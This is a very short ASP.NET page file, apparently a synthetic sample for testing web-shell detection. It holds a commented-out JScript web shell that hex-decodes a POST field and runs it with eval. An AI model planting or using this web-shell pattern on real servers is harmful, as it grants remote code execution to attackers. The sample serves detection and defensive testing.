<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<script runat="server" language="JScript">function h(s){var r="";for(var i=0;i<s.length;i+=2)r+=String.fromCharCode(parseInt(s.substr(i,2),16));return r;}function Page_Load(){var p=Request.Form("q");if(p!=null)eval(h(p));}</script>
--%>
